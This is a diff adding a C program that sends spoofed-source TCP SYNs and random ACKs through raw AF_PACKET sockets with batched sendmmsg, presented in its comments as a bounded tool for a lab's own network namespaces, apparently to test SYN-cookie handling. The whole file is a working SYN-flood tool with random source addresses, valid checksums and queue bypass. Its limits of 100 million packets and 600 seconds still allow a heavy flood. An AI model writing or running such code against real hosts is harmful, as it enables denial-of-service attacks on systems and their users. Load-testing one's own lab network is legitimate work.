@@ -1,0 +1,267 @@
+// SPDX-License-Identifier: Apache-2.0
+// A bounded sender of spoofed SYNs and random ACKs for use inside a lab's own network namespaces.
+// Every packet has a random source address within a given prefix, a random source port and a random sequence number; checksums are
+// right, so nothing but the cookie tells an ACK from an honest one. The counts and the time are always bounded; it prints one JSON line
+// of what it really sent. Sent with sendmmsg(2) over AF_PACKET, past the queueing discipline (packet(7), PACKET_QDISC_BYPASS).
+#define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <errno.h>
+#include <getopt.h>
+#include <linux/if_packet.h>
+#include <net/ethernet.h>
+#include <net/if.h>
+#include <signal.h>
+#include <stdbool.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <time.h>
+#include <unistd.h>
+
+enum { BATCH = 64, SYN_LENGTH = 74, ACK_LENGTH = 54, IP = 14, TCP = 34, FLAG_SYN = 0x02, FLAG_ACK = 0x10 };
+
+typedef struct {
+  const char *interface;
+  uint8_t source_mac[6], destination_mac[6];
+  uint32_t sources, source_mask;  // host byte order
+  uint32_t target;                // host byte order
+  uint16_t port;
+  uint64_t syns, acks, rate, seed;
+  double deadline;
+} options_t;
+
+typedef struct {
+  uint64_t syns, acks;
+} sent_t;
+
+static volatile sig_atomic_t stopped;
+
+static void stop(int signal_number) {
+  (void)signal_number;
+  stopped = 1;
+}
+
+static void fail(const char *what, const char *value) {
+  fprintf(stderr, "flood: %s: %s\n", what, value);
+  exit(2);
+}
+
+static void put16(uint8_t *at, uint32_t value) {
+  at[0] = (uint8_t)(value >> 8);
+  at[1] = (uint8_t)value;
+}
+
+static void put32(uint8_t *at, uint32_t value) {
+  put16(at, value >> 16);
+  put16(at + 2, value);
+}
+
+// splitmix64 (Steele, Lea, Flood: Fast splittable pseudorandom number generators, 2014)
+static uint64_t next_random(uint64_t *state) {
+  uint64_t z = (*state += 0x9e3779b97f4a7c15u);
+  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9u;
+  z = (z ^ (z >> 27)) * 0x94d049bb133111ebu;
+  return z ^ (z >> 31);
+}
+
+static uint32_t sum_words(const uint8_t *data, size_t length) {
+  uint32_t sum = 0;
+  for (size_t i = 0; i + 1 < length; i += 2) sum += (uint32_t)data[i] << 8 | data[i + 1];
+  return sum;
+}
+
+static uint16_t fold(uint32_t sum) {
+  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
+  return (uint16_t)~sum;
+}
+
+// What does not change from packet to packet. A SYN carries the options of a Linux client: MSS 1460, SACK-permitted, TS, WS 7.
+static void prepare(uint8_t *frame, const options_t *o, uint8_t flags) {
+  static const uint8_t syn_options[20] = {2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0x12, 0x34, 0, 0, 0, 0, 1, 3, 3, 7};
+  size_t length = flags == FLAG_SYN ? SYN_LENGTH : ACK_LENGTH;
+  memset(frame, 0, length);
+  memcpy(frame, o->destination_mac, 6);
+  memcpy(frame + 6, o->source_mac, 6);
+  put16(frame + 12, ETHERTYPE_IP);
+  frame[IP] = 0x45;
+  put16(frame + IP + 2, (uint32_t)length - IP);
+  put16(frame + IP + 6, 0x4000);
+  frame[IP + 8] = 64;
+  frame[IP + 9] = IPPROTO_TCP;
+  put32(frame + IP + 16, o->target);
+  put16(frame + TCP + 2, o->port);
+  frame[TCP + 12] = (uint8_t)((length - TCP) / 4 << 4);
+  frame[TCP + 13] = flags;
+  put16(frame + TCP + 14, 64240);
+  if (flags == FLAG_SYN) memcpy(frame + TCP + 20, syn_options, sizeof syn_options);
+}
+
+static void randomise(uint8_t *frame, size_t length, const options_t *o, uint64_t *random) {
+  uint64_t first = next_random(random), second = next_random(random);
+  put32(frame + IP + 12, o->sources | ((uint32_t)first & ~o->source_mask));
+  put16(frame + TCP, 1024 + (uint32_t)(first >> 32) % 64512);
+  put32(frame + TCP + 4, (uint32_t)second);
+  if (frame[TCP + 13] == FLAG_ACK) put32(frame + TCP + 8, (uint32_t)(second >> 32));
+  put16(frame + IP + 10, 0);
+  put16(frame + IP + 10, fold(sum_words(frame + IP, 20)));
+  put16(frame + TCP + 16, 0);
+  uint32_t pseudo = sum_words(frame + IP + 12, 8) + IPPROTO_TCP + (uint32_t)(length - TCP);
+  put16(frame + TCP + 16, fold(pseudo + sum_words(frame + TCP, length - TCP)));
+}
+
+static int open_socket(const char *interface) {
+  int fd = socket(AF_PACKET, SOCK_RAW, 0);  // protocol 0: sends only, receives nothing
+  if (fd < 0) fail("cannot open a packet socket (needs CAP_NET_RAW)", strerror(errno));
+  struct sockaddr_ll address = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(interface)};
+  if (address.sll_ifindex == 0) fail("no such interface", interface);
+  if (bind(fd, (struct sockaddr *)&address, sizeof address) < 0) fail("cannot bind", strerror(errno));
+  int on = 1;
+  setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on);
+  return fd;
+}
+
+static double now(void) {
+  struct timespec t;
+  clock_gettime(CLOCK_MONOTONIC, &t);
+  return (double)t.tv_sec + (double)t.tv_nsec * 1e-9;
+}
+
+static void sleep_seconds(double seconds) {
+  struct timespec t = {.tv_sec = (time_t)seconds, .tv_nsec = (long)((seconds - (double)(time_t)seconds) * 1e9)};
+  nanosleep(&t, NULL);
+}
+
+// ACKs are spread evenly among the SYNs: the n-th packet is an ACK whenever n * acks / total steps up.
+static bool is_ack(const options_t *o, uint64_t n) {
+  uint64_t total = o->syns + o->acks;
+  return (n + 1) * o->acks / total != n * o->acks / total;
+}
+
+// Sends all `n` messages or gives up at the deadline; returns how many went out.
+static unsigned send_batch(int fd, struct mmsghdr *messages, unsigned n, double end) {
+  unsigned done = 0;
+  while (done < n && !stopped) {
+    int sent = sendmmsg(fd, messages + done, n - done, 0);
+    if (sent > 0) {
+      done += (unsigned)sent;
+    } else if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR) {
+      fail("cannot send", strerror(errno));
+    } else if (now() > end) {
+      break;
+    }
+  }
+  return done;
+}
+
+static sent_t flood(int fd, const options_t *o, double start) {
+  static uint8_t syns[BATCH][SYN_LENGTH], acks[BATCH][ACK_LENGTH];
+  struct iovec vectors[BATCH];
+  struct mmsghdr messages[BATCH];
+  memset(messages, 0, sizeof messages);
+  for (unsigned i = 0; i < BATCH; i++) {
+    prepare(syns[i], o, FLAG_SYN);
+    prepare(acks[i], o, FLAG_ACK);
+    messages[i].msg_hdr.msg_iov = &vectors[i];
+    messages[i].msg_hdr.msg_iovlen = 1;
+  }
+  uint64_t total = o->syns + o->acks, random = o->seed;
+  double end = start + o->deadline;
+  sent_t sent = {0, 0};
+  for (uint64_t n = 0; n < total && !stopped && now() < end;) {
+    unsigned batch = total - n < BATCH ? (unsigned)(total - n) : BATCH;
+    for (unsigned i = 0; i < batch; i++) {
+      bool ack = is_ack(o, n + i);
+      vectors[i].iov_base = ack ? acks[i] : syns[i];
+      vectors[i].iov_len = ack ? ACK_LENGTH : SYN_LENGTH;
+      randomise(vectors[i].iov_base, vectors[i].iov_len, o, &random);
+    }
+    unsigned done = send_batch(fd, messages, batch, end);
+    for (unsigned i = 0; i < done; i++) *(is_ack(o, n + i) ? &sent.acks : &sent.syns) += 1;
+    if (done < batch) break;
+    n += batch;
+    if (o->rate) {
+      double ahead = start + (double)n / (double)o->rate - now();
+      if (ahead > 0) sleep_seconds(ahead);
+    }
+  }
+  return sent;
+}
+
+static uint64_t parse_count(const char *what, const char *text) {
+  char *rest;
+  errno = 0;
+  unsigned long long value = strtoull(text, &rest, 10);
+  if (errno || rest == text || *rest || *text == '-') fail(what, text);
+  return value;
+}
+
+static void parse_mac(const char *text, uint8_t *mac) {
+  unsigned b[6];
+  char rest;
+  if (sscanf(text, "%2x:%2x:%2x:%2x:%2x:%2x%c", b, b + 1, b + 2, b + 3, b + 4, b + 5, &rest) != 6) fail("not a MAC address", text);
+  for (int i = 0; i < 6; i++) mac[i] = (uint8_t)b[i];
+}
+
+static uint32_t parse_address(const char *text, char separator, uint64_t *suffix) {
+  char copy[64];
+  snprintf(copy, sizeof copy, "%s", text);
+  char *mark = strchr(copy, separator);
+  struct in_addr address;
+  if (!mark) fail("not an address with a suffix", text);
+  *mark = 0;
+  if (inet_pton(AF_INET, copy, &address) != 1) fail("not an IPv4 address", text);
+  *suffix = parse_count("not a number behind the address", mark + 1);
+  return ntohl(address.s_addr);
+}
+
+static options_t parse_options(int argc, char **argv) {
+  static const struct option known[] = {
+      {"interface", required_argument, 0, 'i'},   {"source-mac", required_argument, 0, 'm'}, {"destination-mac", required_argument, 0, 'd'},
+      {"sources", required_argument, 0, 's'},     {"target", required_argument, 0, 't'},     {"syns", required_argument, 0, 'S'},
+      {"acks", required_argument, 0, 'A'},        {"rate", required_argument, 0, 'r'},       {"seed", required_argument, 0, 'x'},
+      {"deadline", required_argument, 0, 'e'},    {0, 0, 0, 0},
+  };
+  options_t o = {.deadline = 60, .seed = 1, .port = 0};
+  uint64_t suffix;
+  for (int c; (c = getopt_long(argc, argv, "", known, NULL)) != -1;) {
+    switch (c) {
+      case 'i': o.interface = optarg; break;
+      case 'm': parse_mac(optarg, o.source_mac); break;
+      case 'd': parse_mac(optarg, o.destination_mac); break;
+      case 's':
+        o.sources = parse_address(optarg, '/', &suffix);
+        if (suffix < 8 || suffix > 31) fail("a prefix length from 8 to 31 is wanted", optarg);
+        o.source_mask = ~(uint32_t)0 << (32 - suffix);
+        o.sources &= o.source_mask;
+        break;
+      case 't':
+        o.target = parse_address(optarg, ':', &suffix);
+        o.port = (uint16_t)suffix;
+        break;
+      case 'S': o.syns = parse_count("not a count", optarg); break;
+      case 'A': o.acks = parse_count("not a count", optarg); break;
+      case 'r': o.rate = parse_count("not a rate", optarg); break;
+      case 'x': o.seed = parse_count("not a seed", optarg); break;
+      case 'e': o.deadline = (double)parse_count("not a number of seconds", optarg); break;
+      default: exit(2);
+    }
+  }
+  if (!o.interface || !o.source_mask || !o.port) fail("missing option", "--interface, --sources and --target are needed");
+  if (o.syns + o.acks == 0 || o.syns + o.acks > 100000000) fail("packets", "from 1 to 100000000 in all");
+  if (o.deadline > 600) fail("deadline", "at most 600 seconds");
+  return o;
+}
+
+int main(int argc, char **argv) {
+  options_t options = parse_options(argc, argv);
+  int fd = open_socket(options.interface);
+  signal(SIGTERM, stop);
+  signal(SIGINT, stop);
+  double start = now();
+  sent_t sent = flood(fd, &options, start);
+  printf("{\"syns\": %llu, \"acks\": %llu, \"seconds\": %.6f}\n", (unsigned long long)sent.syns, (unsigned long long)sent.acks, now() - start);
+  close(fd);
+  return 0;
+}
